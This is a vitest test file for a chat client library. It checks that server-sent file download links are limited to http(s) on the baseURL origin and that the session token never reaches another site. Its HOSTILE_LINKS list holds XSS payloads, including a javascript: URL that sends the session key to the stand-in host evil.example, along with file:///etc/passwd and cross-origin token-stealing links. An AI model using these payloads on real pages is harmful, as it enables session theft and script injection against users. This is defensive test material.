/**
 * Issue 8, item 2: whatever a server sends, the library never produces a link that is not
 * http(s), attaches the session secret only to downloads on `baseURL`'s origin, and shows a file
 * whose link breaks these rules as a name without a link, saying so on `errors$` (and to the
 * 5.1.0 facade's page, as `fileDownload: ""` and a console warning).
 */
import { filter, firstValueFrom } from 'rxjs';
import { describe, expect, it, vi } from 'vitest';
import { describeMessage } from '../../core';
import type { DescribedMessage, Message, SystemEvent } from '../../core';
import { encodePayload, encodeSystemEvent, endpoints } from '../../core/protocol';
import { facade, recordEvents, useChatServer, view } from './support';

const HOSTILE_LINKS = [
  'javascript:fetch("https://evil.example/?k="+sessionStorage.getItem("key"))//',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://chat.example/5b1f',
  'file:///etc/passwd',
  'https://evil.example/s/demo/Cention/web/chat/client/download/1',
  '//evil.example/steal',
  'http://chat.example:8080/s/demo/download/1',
  '',
];

function fileUpload(fileDownload: string, fileName = 'invoice.pdf'): SystemEvent {
  return { event: 'FILE_UPLOAD', fileDownload, fileName, sizeHuman: '12 KB', name: 'Dana' };
}

function systemMessage(event: SystemEvent, id = 900): Message {
  return { id, sender: 'SYSTEM', sent: 1_767_600_000, sentHuman: '10:00', text: encodeSystemEvent(event), umid: '' };
}

function fileDownloadOf(described: DescribedMessage): string | undefined {
  return (described.event as { fileDownload?: string } | undefined)?.fileDownload;
}

describe('download links from a server', () => {
  const chatServer = endpoints('https://chat.example/s/demo');

  it('are authorised only as http(s) downloads on the baseURL\'s origin', () => {
    expect(chatServer.download('/s/demo/Cention/web/chat/client/download/1', 'S3CRET')).toBe('https://chat.example/s/demo/Cention/web/chat/client/download/1?t=S3CRET');
    expect(chatServer.download('https://chat.example/s/demo/file?x=1', 'a b')).toBe('https://chat.example/s/demo/file?x=1&t=a+b');
    for (const link of HOSTILE_LINKS) expect(chatServer.download(link, 'S3CRET'), link).toBeUndefined();
  });

  it('never reach a page as anything but http(s) through describeMessage', () => {
    for (const link of HOSTILE_LINKS.slice(0, 7)) expect(fileDownloadOf(describeMessage(systemMessage(fileUpload(link)))), link).toBe('');
    // Without a baseURL only the scheme can be judged; with one, the origin too.
    expect(fileDownloadOf(describeMessage(systemMessage(fileUpload('https://evil.example/x'))))).toBe('https://evil.example/x');
    expect(fileDownloadOf(describeMessage(systemMessage(fileUpload('https://evil.example/x')), undefined, 'https://chat.example/s/demo'))).toBe('');
    expect(fileDownloadOf(describeMessage(systemMessage(fileUpload('/s/demo/download/1')), undefined, 'https://chat.example/s/demo'))).toBe('/s/demo/download/1');
    // The sentence does not change: the file is still named, only without a link.
    expect(describeMessage(systemMessage(fileUpload('javascript:alert(1)'))).text).toBe('Dana attached a file.');
  });
});

describe('a forged file link sent by a server', () => {
  const t = useChatServer();

  async function chatWithForgedFile(fileDownload: string) {
    const chat = t.client();
    const { sessionId } = await chat.start({ name: 'Ada', message: 'Hello' });
    const refused = firstValueFrom(chat.errors$.pipe(filter((e) => e.code === 'invalid-input')));
    const forged = systemMessage(fileUpload(fileDownload), 1_000_000);
    t.server.sendRaw(sessionId, 'chat message', encodePayload({ agent: 'Dana', chat: [forged], client: 'Ada' }));
    const shown = await view(chat, (v) => v.transcript.has(forged.id));
    return { chat, refused, message: shown.transcript.get(forged.id)! };
  }

  it('is shown as a name without a link and reported as invalid input (javascript:)', async () => {
    const { chat, refused, message } = await chatWithForgedFile('javascript:alert(document.domain)//');
    const error = await refused;
    expect(error.message).toMatch(/invoice\.pdf/);
    const described = describeMessage(message);
    expect(fileDownloadOf(described)).toBe('');
    expect(chat.downloadUrl(fileDownloadOf(described)!)).toBeUndefined();
    expect(chat.downloadUrl('javascript:alert(document.domain)//')).toBeUndefined();
  });

  it('never carries the session secret to another site', async () => {
    const { chat, refused } = await chatWithForgedFile('https://evil.example/collect');
    await refused;
    expect(chat.downloadUrl('https://evil.example/collect')).toBeUndefined();
    // The server's own downloads still get it.
    const own = chat.downloadUrl('/s/demo/Cention/web/chat/client/download/1');
    expect(own).toMatch(new RegExp(`^${t.server.url}/s/demo/Cention/web/chat/client/download/1\\?t=.+`));
  });

  it('reaches a 5.1.0 page as a file without a link, with a warning that says why', async () => {
    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined);
    try {
      const chat = facade({ socketOptions: { reconnectionDelay: 20, reconnectionDelayMax: 100, randomizationFactor: 0 }, storage: null });
      chat.baseURL = t.server.baseURL;
      const events = recordEvents(chat);
      const registered = t.server.waitFor('session-registered');
      chat.connect({ area: 1, name: 'Ann', email: 'ann@example.com', message: 'Hello' });
      const { sessionId } = await registered;
      await events.next('queue');
      const forged = [systemMessage(fileUpload('javascript:alert(1)', 'a.pdf'), 1_000_001), systemMessage(fileUpload('/s/demo/Cention/web/chat/client/download/7', 'b.pdf'), 1_000_002)];
      t.server.sendRaw(sessionId, 'chat message', encodePayload({ agent: 'Dana', chat: forged, client: 'Ann' }));
      const [data] = (await events.next('chat message', ([d]) => (d as { chat: Message[] }).chat.some((m) => m.id === forged[0]!.id))) as [{ chat: DescribedMessage[] }];
      expect(data.chat.map(fileDownloadOf)).toEqual(['', '/s/demo/Cention/web/chat/client/download/7']);
      expect(warn.mock.calls.map((call) => String(call[1]))).toEqual([expect.stringMatching(/"a\.pdf".*not an http\(s\) download/)]);
    } finally {
      warn.mockRestore();
    }
  });
});
